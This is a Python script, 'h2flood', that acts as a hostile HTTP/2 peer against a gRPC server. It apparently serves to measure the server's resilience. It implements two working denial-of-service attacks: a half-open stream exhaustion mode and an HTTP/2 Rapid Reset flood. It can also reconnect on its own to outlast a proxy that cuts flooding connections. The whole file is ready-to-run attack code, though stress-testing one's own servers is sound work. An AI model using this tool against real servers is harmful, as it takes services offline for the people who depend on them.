#!/usr/bin/python3
"""h2flood: a hostile HTTP/2 peer for a gRPC server, to measure its limits.

Run it with Debian's /usr/bin/python3 and python3-h2 (it uses h2's frame and
header codecs, hyperframe and hpack, and writes the frames itself, because
h2's own state machine would refuse to misbehave).

Modes, both on ONE connection (unless --reconnect):

  halfopen    opens --streams streams with gRPC request headers for --path
              and no grpc-timeout, sends no DATA and no END_STREAM, and holds
              them for --hold seconds (or until the server closes the
              connection). --respect_limit keeps at most the server's
              MAX_CONCURRENT_STREAMS open at once, opening a new stream when
              the server closes one; without it every stream is sent at once.
              --no_settings_ack never acknowledges the server's SETTINGS.
  rapidreset  sends HEADERS then RST_STREAM(CANCEL) at once, for --streams
              streams or --hold seconds, whichever comes first, and reports
              the rate it achieved. --reconnect opens a new connection
              whenever the server closes one (a proxy that cuts a flooding
              connection faces an attacker who comes back).

It prints one line of JSON on stdout: what it sent, what the server did with
it (streams it reset, by error code; streams it answered, by grpc-status;
GOAWAY; when the connection closed). Exit status 0 when it ran (whatever the
server did), 1 when it could not connect, 2 for bad arguments, 3 without
python3-h2.
"""

import argparse
import collections
import json
import select
import socket
import sys
import time

try:
    import hpack
    from hyperframe import frame as hf
    import h2.errors
except ImportError as e:  # Without python3-h2 there is nothing to run.
    print(json.dumps({"error": f"python3-h2 missing: {e}"}))
    sys.exit(3)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_CONCURRENT_STREAMS = 0x3
UNLIMITED = 2**31 - 1


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


def frame_header(length, frame_type, flags, stream_id):
    return (length.to_bytes(3, "big") + bytes([frame_type, flags]) +
            stream_id.to_bytes(4, "big"))


class Peer:
    """One HTTP/2 connection, written by hand, read with hyperframe."""

    def __init__(self, host, port, ack_settings=True, ack_pings=True,
                 source=None):
        self.started = time.monotonic()
        self.sock = socket.create_connection(
            (host, port), timeout=5,
            source_address=(source, 0) if source else None)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.ack_settings = ack_settings
        self.ack_pings = ack_pings
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.inbuf = bytearray()
        self.outbuf = bytearray()
        self.server_settings = {}
        self.got_settings = False
        self.closed_at = None  # Seconds from the start, when the peer closed.
        self.goaway = None
        # Streams the server reset, by error name, and answered, by
        # grpc-status; each stream counted once. A frame repeated for a
        # stream already reset or answered is counted in `repeated`.
        self.resets = collections.Counter()
        self.answers = collections.Counter()
        self.reset_streams = set()
        self.answered_streams = set()
        self.repeated = 0
        self.closed_streams = set()  # Stream ids the server ended.
        self.last_close_at = None
        self.pings_answered = 0
        self.pings_ignored = 0
        self.ping_acks = set()  # Opaque values of our PINGs the server acked.
        self.continuing = None  # (stream id, header block so far, end stream)
        self.received_data = 0
        # Preface and our SETTINGS: a big window, push off.
        settings = hf.SettingsFrame(0, settings={
            hf.SettingsFrame.ENABLE_PUSH: 0,
            hf.SettingsFrame.INITIAL_WINDOW_SIZE: 1 << 20,
        })
        self.send(PREFACE + settings.serialize())

    def elapsed(self):
        return time.monotonic() - self.started

    @property
    def closed(self):
        return self.closed_at is not None

    @property
    def max_streams(self):
        return self.server_settings.get(MAX_CONCURRENT_STREAMS, UNLIMITED)

    def send(self, data):
        self.outbuf += data
        self.flush()

    def flush(self):
        while self.outbuf and not self.closed:
            try:
                sent = self.sock.send(self.outbuf)
            except BlockingIOError:
                return False
            except OSError:
                self._mark_closed()
                return False
            del self.outbuf[:sent]
        return True

    def _mark_closed(self):
        if self.closed_at is None:
            self.closed_at = self.elapsed()

    def pump(self, timeout):
        """Reads and answers what arrives within `timeout` seconds; writes
        what is queued as the socket accepts it."""
        if self.closed:
            return
        wanted = [self.sock] if self.outbuf else []
        readable, writable, _ = select.select([self.sock], wanted, [], timeout)
        if writable:
            self.flush()
        if not readable:
            return
        while True:
            try:
                data = self.sock.recv(1 << 20)
            except BlockingIOError:
                break
            except OSError:
                data = b""
            if not data:
                self._mark_closed()
                break
            self.inbuf += data
            if len(data) < (1 << 20):
                break
        self._parse()

    def _parse(self):
        while len(self.inbuf) >= 9:
            frame, length = hf.Frame.parse_frame_header(
                memoryview(self.inbuf[:9]))
            if len(self.inbuf) < 9 + length:
                return
            body = memoryview(bytes(self.inbuf[9:9 + length]))
            del self.inbuf[:9 + length]
            if isinstance(frame, hf.ExtensionFrame):
                continue
            frame.parse_body(body)
            self._on_frame(frame)

    def _on_frame(self, frame):
        if isinstance(frame, hf.SettingsFrame):
            if "ACK" not in frame.flags:
                self.server_settings.update(frame.settings)
                self.got_settings = True
                if self.ack_settings:
                    self.send(hf.SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, hf.PingFrame):
            if "ACK" in frame.flags:
                self.ping_acks.add(int.from_bytes(frame.opaque_data, "big"))
            elif self.ack_pings:
                self.pings_answered += 1
                self.send(
                    hf.PingFrame(0, opaque_data=frame.opaque_data,
                                 flags=["ACK"]).serialize())
            else:
                self.pings_ignored += 1
        elif isinstance(frame, hf.GoAwayFrame):
            if self.goaway is None:
                self.goaway = {
                    "at_s": round(self.elapsed(), 3),
                    "last_stream_id": frame.last_stream_id,
                    "error": error_name(frame.error_code),
                    "debug": frame.additional_data.decode(errors="replace"),
                }
        elif isinstance(frame, hf.RstStreamFrame):
            if frame.stream_id in self.reset_streams:
                self.repeated += 1
            else:
                self.reset_streams.add(frame.stream_id)
                self.resets[error_name(frame.error_code)] += 1
            self._stream_ended(frame.stream_id)
        elif isinstance(frame, (hf.HeadersFrame, hf.ContinuationFrame)):
            if isinstance(frame, hf.HeadersFrame):
                self.continuing = (frame.stream_id, bytearray(frame.data),
                                   "END_STREAM" in frame.flags)
            else:
                self.continuing[1].extend(frame.data)
            if "END_HEADERS" in frame.flags:
                stream_id, block, end_stream = self.continuing
                self.continuing = None
                headers = dict(self.decoder.decode(bytes(block), raw=True))
                if end_stream and stream_id in self.answered_streams:
                    self.repeated += 1
                elif end_stream:
                    self.answered_streams.add(stream_id)
                    status = headers.get(b"grpc-status", b"?").decode()
                    self.answers[status] += 1
                    self._stream_ended(stream_id)
        elif isinstance(frame, hf.DataFrame):
            # Give the window back, so a talkative server never stalls.
            self.received_data += frame.flow_controlled_length
            if frame.flow_controlled_length:
                update = hf.WindowUpdateFrame(
                    0, window_increment=frame.flow_controlled_length)
                self.send(update.serialize())
            if "END_STREAM" in frame.flags:
                self._stream_ended(frame.stream_id)

    def _stream_ended(self, stream_id):
        if stream_id not in self.closed_streams:
            self.closed_streams.add(stream_id)
            self.last_close_at = self.elapsed()

    def ping(self, value):
        """Sends PING `value`; the server acks it once it has read every
        frame sent before it."""
        self.send(hf.PingFrame(0, opaque_data=value.to_bytes(8, "big"))
                  .serialize())

    def wait_for_ping(self, value, timeout):
        give_up = time.monotonic() + timeout
        while value not in self.ping_acks and not self.closed:
            left = give_up - time.monotonic()
            if left <= 0:
                return False
            self.pump(min(left, 0.05))
        return value in self.ping_acks

    def wait_for_settings(self, timeout=5.0):
        give_up = time.monotonic() + timeout
        while not self.got_settings and not self.closed:
            left = give_up - time.monotonic()
            if left <= 0:
                break
            self.pump(left)
        return self.got_settings

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def report(self):
        return {
            "server_max_concurrent_streams": self.server_settings.get(
                MAX_CONCURRENT_STREAMS),
            "resets": dict(self.resets),
            "answers_by_grpc_status": dict(self.answers),
            "repeated_frames": self.repeated,
            "streams_ended_by_server": len(self.closed_streams),
            "last_stream_ended_at_s": (None if self.last_close_at is None else
                                       round(self.last_close_at, 3)),
            "goaway": self.goaway,
            "connection_closed_at_s": (None if self.closed_at is None else
                                       round(self.closed_at, 3)),
            "pings_answered": self.pings_answered,
            "pings_ignored": self.pings_ignored,
        }


def request_block(authority, path):
    """A gRPC request's header block without grpc-timeout, encoded without
    touching either side's HPACK table, so the same bytes serve every
    stream."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("user-agent", "h2flood"),
    ]
    encoder = hpack.Encoder()
    return encoder.encode(
        [hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])


def headers_frame(block, stream_id):
    return frame_header(len(block), 0x1, 0x4, stream_id) + block  # END_HEADERS


def rst_frame(stream_id, code=0x8):  # CANCEL
    return frame_header(4, 0x3, 0x0, stream_id) + code.to_bytes(4, "big")


def run_halfopen(peer, block, args):
    """Opens the streams, then holds them. Once all are sent, one PING tells
    when the server has read them all; then a line on stderr says the
    streams are held, and the --hold clock starts."""
    total = args.streams
    limit = peer.max_streams if args.respect_limit else UNLIMITED
    next_id = 1
    opened = 0
    peak_open = 0
    sent_at = None
    read_at = None
    hold_until = None
    batch = 200
    while not peer.closed:
        open_now = opened - len(peer.closed_streams)
        room = min(total - opened, limit - open_now)
        if room > 0:
            if len(peer.outbuf) >= (1 << 20):  # The server reads slowly.
                peer.pump(0.01)
                continue
            chunk = bytearray()
            for _ in range(min(room, batch)):
                chunk += headers_frame(block, next_id)
                next_id += 2
                opened += 1
            peer.send(bytes(chunk))
            peer.pump(0)
            peak_open = max(peak_open, opened - len(peer.closed_streams))
            continue
        if sent_at is None:
            sent_at = peer.elapsed()
            peer.ping(1)
            if peer.wait_for_ping(1, timeout=120):
                read_at = peer.elapsed()
            peak_open = max(peak_open, opened - len(peer.closed_streams))
            if peer.closed:
                print("h2flood: the server closed the connection",
                      file=sys.stderr, flush=True)
            else:
                print(f"h2flood: holding {opened - len(peer.closed_streams)}"
                      " streams", file=sys.stderr, flush=True)
            hold_until = time.monotonic() + args.hold
        if time.monotonic() >= hold_until:
            break
        peer.pump(min(0.05, max(0.0, hold_until - time.monotonic())))
        peak_open = max(peak_open, opened - len(peer.closed_streams))
    report = peer.report()
    report.update({
        "streams_opened": opened,
        "streams_open_at_peak": peak_open,
        "streams_open_at_end": opened - len(peer.closed_streams),
        "all_sent_at_s": None if sent_at is None else round(sent_at, 3),
        "server_read_all_at_s": None if read_at is None else round(read_at, 3),
    })
    return report


def run_rapidreset(peer, block, args, connect):
    """Streams opened and reset at once, as fast as the connection takes
    them. The kernel's socket buffers hold many thousands of them, so the
    rate that counts is the server's: a PING sent after the last one is
    answered once the server has read them all. (One PING only: gRPC counts
    frequent PINGs from a client as strikes and sends GOAWAY
    too_many_pings.) With --reconnect, a connection the server closes is
    replaced by a new one (`connect()`), and the flood goes on until
    --streams or --hold: a proxy that closes a flooding connection is then
    measured against an attacker who comes back at once."""
    next_id = 1
    sent = 0
    batch = 100
    connections = 1
    deadline = time.monotonic() + args.hold
    start = time.monotonic()
    totals = collections.Counter()
    while sent < args.streams and time.monotonic() < deadline:
        if peer.closed:
            if not args.reconnect:
                break
            totals.update(peer.resets)
            peer.close()
            try:
                peer = connect()
            except OSError:
                break
            if not peer.wait_for_settings():
                break
            connections += 1
            next_id = 1
            continue
        if len(peer.outbuf) >= (1 << 20):
            peer.pump(0.01)  # The server reads slower than this writes.
            continue
        count = min(batch, args.streams - sent)
        chunk = bytearray()
        for _ in range(count):
            chunk += headers_frame(block, next_id)
            chunk += rst_frame(next_id)
            next_id += 2
        peer.send(bytes(chunk))
        sent += count
        peer.pump(0)
    written = time.monotonic() - start
    peer.ping(1)
    caught_up = peer.wait_for_ping(1, timeout=120)
    took = time.monotonic() - start
    report = peer.report()
    if args.reconnect:
        totals.update(peer.resets)
        report["resets"] = dict(totals)
    report.update({
        "streams_reset": sent,
        "connections": connections,
        "written_s": round(written, 3),
        "server_read_all": caught_up,
        "seconds": round(took, 3),
        "rate_per_s": round(sent / took) if took > 0 and caught_up else None,
    })
    return report, peer


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--target", required=True, help="HOST:PORT")
    parser.add_argument("--mode", choices=["halfopen", "rapidreset"],
                        required=True)
    parser.add_argument("--path", default="/deadline.v1.Frontend/Fetch")
    parser.add_argument("--streams", type=int, default=20000)
    parser.add_argument("--hold", type=float, default=10.0,
                        help="halfopen: seconds to hold the streams once "
                        "sent; rapidreset: seconds at most")
    parser.add_argument("--respect_limit", action="store_true",
                        help="halfopen: open at most the server's "
                        "MAX_CONCURRENT_STREAMS at once")
    parser.add_argument("--no_settings_ack", action="store_true",
                        help="never acknowledge the server's SETTINGS")
    parser.add_argument("--source", default="",
                        help="the local address to connect from (e.g. "
                        "127.0.0.2: another client host, on loopback)")
    parser.add_argument("--reconnect", action="store_true",
                        help="rapidreset: open a new connection whenever "
                        "the server closes one, until --streams or --hold")
    parser.add_argument("--no_ping_ack", action="store_true",
                        help="never answer the server's PINGs (a peer whose "
                        "host vanished)")
    args = parser.parse_args()
    host, _, port = args.target.rpartition(":")
    if not host or not port.isdigit() or args.streams < 0 or args.hold < 0:
        parser.error("--target must be HOST:PORT; counts must be >= 0")
    def connect():
        return Peer(host.strip("[]"), int(port),
                    ack_settings=not args.no_settings_ack,
                    ack_pings=not args.no_ping_ack,
                    source=args.source or None)

    try:
        peer = connect()
    except OSError as e:
        print(json.dumps({"mode": args.mode, "error": f"connect: {e}"}))
        return 1
    if not peer.wait_for_settings():
        print(json.dumps({"mode": args.mode, "error": "no SETTINGS"}))
        return 1
    block = request_block(args.target, args.path)
    if args.mode == "halfopen":
        report = run_halfopen(peer, block, args)
    else:
        report, peer = run_rapidreset(peer, block, args, connect)
    peer.close()
    report = {
        "mode": args.mode,
        "target": args.target,
        "path": args.path,
        "respect_limit": args.respect_limit,
        "reconnect": args.reconnect,
        "settings_acked": not args.no_settings_ack,
        "pings_acked": not args.no_ping_ack,
        **report,
    }
    print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
